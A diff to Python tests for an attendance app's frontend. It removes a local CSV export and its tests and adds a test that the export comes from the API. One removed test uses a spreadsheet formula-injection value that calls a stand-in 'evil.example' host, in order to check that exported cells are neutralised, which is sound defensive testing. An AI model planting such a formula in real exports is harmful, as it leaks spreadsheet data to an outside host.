@@ -3,7 +3,6 @@ the bearer token on every request."""
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
 import html
 import io
@@ -27,7 +26,7 @@ from frontend.roster import (
     split_roster,
     student_for_photo,
 )
-from frontend.stats import daily_rates, records_csv, roster_sizes, student_rates
+from frontend.stats import daily_rates, roster_sizes, student_rates
 from frontend.ui import WORD_JOINER, plain
 from frontend.views.enroll import ALREADY, run_enrollments
 
@@ -279,32 +278,11 @@ def test_plain_escapes_every_markdown_special_and_keeps_letters():
     assert plain(None) == "" and plain(3) == "3"
 
 
-def test_records_csv_export_neutralises_formulas():
-    name = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
-    data = records_csv([record("s1", D1, name=name), record("s2", D1, name="+1"),
-                        record("s3", D1, name="@SUM(A1)"), record("s4", D1, name="-2")])
-    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
-    assert {r["student_id"]: r["name"] for r in rows} == {
-        "s1": "'" + name, "s2": "'+1", "s3": "'@SUM(A1)", "s4": "'-2"}
-    assert rows[0]["distance"] == "0.2000"  # numbers stay numbers
-    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
-
-
 def test_the_example_roster_csv_parses_back():
     from frontend.views.enroll import CSV_EXAMPLE
 
     parsed = parse_roster_csv(CSV_EXAMPLE)
     assert parsed.errors == [] and [r.student_id for r in parsed.rows] == ["s001", "s002"]
-
-
-def test_records_csv_export():
-    data = records_csv([record("s1", D2, name="Zoë"), record("s0", D1)])
-    assert data.startswith("\ufeff".encode())
-    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
-    assert rows[0] == ["date", "class_id", "student_id", "name", "first_seen_at", "distance",
-                       "job_id"]
-    assert [r[:4] for r in rows[1:]] == [["2026-11-02", "room-1", "s0", "S0"],
-                                         ["2026-11-03", "room-1", "s1", "Zoë"]]
 
 
 # --- API errors become readable messages -------------------------------------------------------
@@ -581,3 +559,14 @@ def test_adding_photos_to_an_enrolled_student_never_enrolls(monkeypatch):
                                add=True)
     assert api.calls == [("add", "s1", ["a1", "a2"]), ("add", "s1", ["a3"])]
     assert all(o.state == "succeeded" and o.added for o in outcomes)
+
+
+def test_the_csv_export_is_the_apis():
+    transport = FakeSession(response(200, "\ufeffclass_id,date\n".encode(), "text/csv"))
+    client = ApiClient("http://api", token="t", session=transport)
+    data = client.attendance_csv(class_id="room-1", date_from=D1, date_to=D2)
+    assert data.decode("utf-8-sig") == "class_id,date\n"
+    [(method, url, kwargs)] = transport.calls
+    assert (method, url) == ("GET", "http://api/api/v1/attendance")
+    assert kwargs["params"] == {"class_id": "room-1", "from": "2026-11-02", "to": "2026-11-03",
+                                "format": "csv"}
